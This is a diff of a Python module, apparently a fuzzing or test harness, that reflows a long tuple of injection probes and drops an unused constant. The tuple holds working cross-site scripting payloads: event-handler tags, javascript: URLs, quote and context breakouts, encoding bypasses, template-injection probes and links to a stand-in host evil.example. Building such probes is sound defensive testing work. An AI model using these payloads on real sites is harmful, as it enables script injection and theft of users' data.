@@ -16,37 +16,46 @@ from lxml import etree, html
 
 MARK = "zqx"
 CALL = "zqrun"
-#: {n} is the number, {call} what runs.
+#: {m} is the mark with its number, {call} what would run.
 SHAPES = (
     # A tag of its own.
     "<{m}>", "<script {m}>{call}</script>", "<img {m} src=/nowhere onerror={call}>",
-    "<svg {m}><animate onbegin={call} attributeName=x dur=1s>", "<details {m} open ontoggle={call}>",
+    "<svg {m}><animate onbegin={call} attributeName=x dur=1s>",
+    "<details {m} open ontoggle={call}>",
     "<body {m} onload={call}>", "<input {m} autofocus onfocus={call}>",
-    "<video {m}><source onerror={call}></video>", "<iframe {m} src=javascript:{call}></iframe>",
-    "<object {m} data=javascript:{call}></object>", "<a {m} href=javascript:{call}>x</a>",
+    "<video {m}><source onerror={call}></video>",
+    "<iframe {m} src=javascript:{call}></iframe>",
+    "<object {m} data=javascript:{call}></object>",
+    "<a {m} href=javascript:{call}>x</a>",
     "<style {m}>@import 'javascript:{call}'</style>", "<base {m} href=//evil.example/>",
     "<meta {m} http-equiv=refresh content='0;url=javascript:{call}'>",
-    "<link {m} rel=stylesheet href=//evil.example/x.css>", "<form {m} action=//evil.example><button>",
+    "<link {m} rel=stylesheet href=//evil.example/x.css>",
+    "<form {m} action=//evil.example><button>",
     "<math {m}><mtext><style><img title='</style><img onerror={call} src=x>'>",
     # Out of a value between quotes.
     "\"><{m} x=\"", "'><{m} x='", "\" {m}=1 onfocus={call} autofocus x=\"",
-    "' {m}=1 onmouseover={call} x='", "x {m}=1 onfocus={call} autofocus", "` {m}=1 onclick={call} x=`",
+    "' {m}=1 onmouseover={call} x='",
+    "x {m}=1 onfocus={call} autofocus", "` {m}=1 onclick={call} x=`",
     # Out of what holds text only.
     "</textarea><{m}><img src=x onerror={call}>", "</title><{m}><svg onload={call}>",
     "</script><{m}><script>{call}</script>", "</style><{m}>", "--><{m}><!--", "]]><{m}><![CDATA[",
     "</noscript><{m}>", "</select><{m}><option>", "</option></select><{m}>", "</template><{m}>",
-    "</td></tr></table><{m}>", "</pre><{m}>", "</svg><{m}><svg>", "<!--><{m}>", "<![endif]--><{m}>",
+    "</td></tr></table><{m}>",
+    "</pre><{m}>", "</svg><{m}><svg>", "<!--><{m}>", "<![endif]--><{m}>",
     # Out of words of a script.
-    "';{call};//{m}", "\";{call};//{m}", "`;{call};//{m}", "${{{call}}}{m}", "\\\";{call};//{m}",
+    "';{call};//{m}", "\";{call};//{m}", "`;{call};//{m}", "${{{call}}}{m}",
+    "\\\";{call};//{m}",
     "</script ><{m}>", "\u2028{call}//{m}", "{{{{constructor.constructor('{call}')()}}}}{m}",
     # Addresses.
     "javascript:{call}//{m}", "JaVaScRiPt:{call}//{m}", "java\tscript:{call}//{m}",
     "data:text/html,<script {m}>{call}</script>", "//evil.example/{m}", "vbscript:{call}//{m}",
     # Escapes that somebody may undo once too often.
-    "&lt;{m}&gt;", "&amp;lt;{m}&amp;gt;", "%3C{m}%3E", "\\u003c{m}\\u003e", "\\x3c{m}\\x3e", "＜{m}＞",
-    "&#60;{m}&#62;", "+ADw-{m}+AD4-", "<<{m}>>", "<{m}\x0c/>", "< {m}>", "<{m}\n\t>", "<\u200b{m}>",
+    "&lt;{m}&gt;", "&amp;lt;{m}&amp;gt;", "%3C{m}%3E", "\\u003c{m}\\u003e", "\\x3c{m}\\x3e",
+    "＜{m}＞", "&#60;{m}&#62;",
+    "+ADw-{m}+AD4-", "<<{m}>>", "<{m}\x0c/>", "< {m}>", "<{m}\n\t>", "<\u200b{m}>",
     # What template languages and other writers take for theirs.
-    "{{{{ 7|add:7 }}}}{m}", "{{% load x %}}{m}", "{{# {m} #}}", "${{7*7}}{m}", "<%= {m} %>", "#{{7*7}}{m}",
+    "{{{{ 7|add:7 }}}}{m}", "{{% load x %}}{m}", "{{# {m} #}}",
+    "${{7*7}}{m}", "<%= {m} %>", "#{{7*7}}{m}",
     "[x](javascript:{call} '{m}')", "![x](//evil.example/{m})", "<?xml {m}?>", "<!DOCTYPE {m}>",
     "#let {m} = 1", "#link(\"javascript:{call}\")[{m}]", "$ {m} $", "\\input{{{m}}}",
     # What a table would reckon.
@@ -55,7 +64,6 @@ SHAPES = (
 )  # fmt: skip
 FORMULA = re.compile(r"^[\s]*[=+\-@]")
 NUMBER = re.compile(r"^[+-]?[\d.,]+%?$")
-TAGS = (b"text/html",)
 
 
 def payloads() -> list[str]:
